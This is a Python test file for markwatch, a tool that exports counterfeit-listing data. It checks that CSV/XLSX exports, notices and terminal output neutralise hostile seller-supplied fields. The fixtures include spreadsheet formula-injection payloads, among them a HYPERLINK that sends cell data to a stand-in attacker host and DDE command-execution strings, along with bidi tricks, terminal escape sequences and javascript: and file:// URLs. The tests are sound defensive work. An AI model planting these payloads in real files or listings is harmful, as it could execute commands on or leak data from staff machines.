"""Issue 11 findings 8 and 9: hostile listing fields leave markwatch harmless.

Titles such as ``=HYPERLINK(…)`` must be text in every XLSX and neutralised in every CSV (these files
go to platform staff); U+202E and control characters never reach a notice; Rich markup in a title is
printed literally; a listing whose URL is not the platform's own is never exported.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlalchemy.orm import Session

from crawler.cli import cli
from markwatch.safety import csv_cell, display_text, is_formula_like
from storage.exports import export_package, write_table
from storage.review import set_status
from tests.test_review_helpers import T0, add_listings, brand_row, ids_of, record, review_db, veloria

__all__ = ["review_db"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"VELORIA 正品")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("x")',
    "\t=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value
    assert csv_cell("VELORIA 高仿 =1") == "VELORIA 高仿 =1"  # only a leading formula character counts
    assert csv_cell(12.5) == 12.5


def test_display_text_drops_bidi_and_controls() -> None:
    hostile = "VELORIA\u202egnp.exe\u2066 \x1b[31mred\x1b[0m\x07 zero\u200bwidth\nline"
    shown = display_text(hostile)
    assert "\u202e" not in shown and "\u2066" not in shown and "\x1b" not in shown and "\x07" not in shown
    assert "\u200b" not in shown and "\n" not in shown
    assert shown.startswith("VELORIAgnp.exe") and shown.endswith("zerowidth line")
    assert display_text("a\nb\u2028c", keep_newlines=True) == "a\nb\nc"


def test_xlsx_and_csv_tables_hold_text_not_formulas(tmp_path: Path) -> None:
    rows = [{"title": v, "n": i} for i, v in enumerate([*FORMULAS, "bad\x01char \x0b"])]
    write_table(tmp_path / "t.csv", rows, ("title", "n"))
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [r["title"] for r in csv.DictReader(fh)]
    assert all(c.startswith("'") for c in cells[: len(FORMULAS)])
    ws = load_workbook(tmp_path / "t.xlsx").active
    assert ws is not None
    values = [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert values[: len(FORMULAS)] == FORMULAS  # the text as the seller wrote it…
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/"))
        xml = z.read(sheet).decode()
    assert "<f>" not in xml  # …and never a formula
    assert values[-1] == "badchar "  # characters XLSX cannot hold are dropped, not a crash


def _confirmed(engine: Engine, recs: list[dict]) -> list[int]:  # type: ignore[type-arg]
    with Session(engine) as s, s.begin():
        bid = brand_row(s)
        ids = ids_of(add_listings(s, bid, recs), recs)
        set_status(s, ids, "confirmed", actor="lin", at=T0)
    return ids


def test_takedown_package_is_harmless(review_db: Engine, tmp_path: Path) -> None:
    recs = [
        record("f1", title='=HYPERLINK("http://evil.example","VELORIA 高仿")'),
        record("f2", title="VELORIA 高仿 \u202egnp.exe 包", seller_name="=cmd|' /C calc'!A0"),
        record("ok3"),
    ]
    bad_urls = {
        "js4": "javascript:alert(document.domain)//item.taobao.com",
        "file5": "file:///etc/passwd",
        "loop6": "http://127.0.0.1:8080/item.htm?id=1",
        "evil7": "https://item.taobao.com.evil.example/item.htm?id=7",
    }
    for item_id, url in bad_urls.items():
        r = record(item_id)
        r["url"] = url
        recs.append(r)
    _confirmed(review_db, recs)
    with Session(review_db) as s, s.begin():
        result = export_package(s, veloria(), "taobao", tmp_path / "pkg", now=T0)
    root = result.out
    files = [p for p in root.rglob("*") if p.is_file()]
    assert files and all(p.resolve().is_relative_to((tmp_path / "pkg").resolve()) for p in files)
    urls = "".join(p.read_text(encoding="utf-8") for p in root.rglob("urls.txt"))
    assert "item.taobao.com/item.htm?id=f1" in urls and "item.taobao.com/item.htm?id=ok3" in urls
    for url in bad_urls.values():
        assert url not in urls
    checklist = (root / "checklist.md").read_text(encoding="utf-8")
    assert checklist.count("is not taobao's own") == len(bad_urls)
    for notice in root.rglob("notice.txt"):
        text = notice.read_text(encoding="utf-8")
        assert "\u202e" not in text and "javascript:" not in text and "127.0.0.1" not in text
    for table in root.rglob("*.csv"):
        with table.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(is_formula_like(cell) for cell in row), (table, row)
    for book in root.rglob("*.xlsx"):
        with zipfile.ZipFile(book) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert "<f>" not in z.read(name).decode(), book


def test_suspects_prints_rich_markup_literally(review_db: Engine, tmp_path: Path) -> None:
    """``[/]`` used to crash ``suspects``; ``[link=…]`` was interpreted as a terminal hyperlink."""
    recs = [
        record("m1", title="VELORIA 高仿 [/] closing tag"),
        record(
            "m2", title="VELORIA [link=https://evil.example]正品[/link] 高仿", seller_name="[bold red]shop"
        ),
        record("m3", title="VELORIA 高仿 \x1b]8;;https://evil.example\x1b\\esc\x1b]8;;\x1b\\"),
    ]
    with Session(review_db) as s, s.begin():
        add_listings(s, brand_row(s), recs)
    url = review_db.url.render_as_string(hide_password=False)
    res = CliRunner().invoke(cli, ["--db", url, "suspects", "--brand", "veloria"], terminal_width=200)
    assert res.exit_code == 0, res.output
    assert "[/]" in res.output and "[link=https://evil.example]" in res.output
    assert "[bold red]shop" in res.output
    assert "\x1b" not in res.output
    res = CliRunner().invoke(cli, ["suspects", "--db", url, "--brand", "veloria", "--format", "json"])
    assert res.exit_code == 0, res.output
    assert {r["title"] for r in json.loads(res.output)} >= {recs[0]["title"], recs[1]["title"]}
